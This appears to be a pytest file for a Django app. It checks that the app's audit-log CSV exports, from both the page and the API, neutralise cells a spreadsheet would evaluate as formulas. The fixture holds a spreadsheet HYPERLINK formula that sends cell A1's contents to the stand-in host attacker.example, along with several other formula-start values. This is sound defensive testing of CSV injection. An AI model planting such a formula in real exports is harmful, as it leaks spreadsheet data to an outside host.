"""Both audit exports (the page's and the API's) neutralise cells a spreadsheet would run as formulas."""

import csv
import io

import pytest
from django.urls import reverse

from lifecycle import services
from tests.conftest import token_client

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1, "Open")'


@pytest.fixture
def hostile_row(analyst):
    return services.event_record(model=None, actor=analyst, action="review.commented", message=HYPERLINK,
                                 from_value="+1", to_value="@SUM(1)", family="-2+3")


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def _assert_neutralised(rows, pk):
    row = next(r for r in rows if r["id"] == str(pk))
    assert row["message"] == "'" + HYPERLINK  # shown as text, never evaluated
    assert (row["from"], row["to"], row["family"]) == ("'+1", "'@SUM(1)", "'-2+3")
    assert row["actor"] == "analyst" and row["action"] == "review.commented"  # plain cells stay as they were


def test_the_page_export_neutralises_formula_cells(client, viewer, hostile_row):
    client.force_login(viewer)
    _assert_neutralised(_rows(client.get(reverse("registry:audit-export"))), hostile_row.pk)


def test_the_api_export_neutralises_formula_cells(viewer, hostile_row):
    _assert_neutralised(_rows(token_client(viewer).get("/api/v1/audit-log/export")), hostile_row.pk)


def test_tab_and_carriage_return_starts_are_neutralised_too():
    from lifecycle.core.exports import csv_cell

    assert [csv_cell(v) for v in ("\t=1", "\r=1", "plain", "a=b", -5, 3.5, "")] == \
        ["'\t=1", "'\r=1", "plain", "a=b", -5, 3.5, ""]
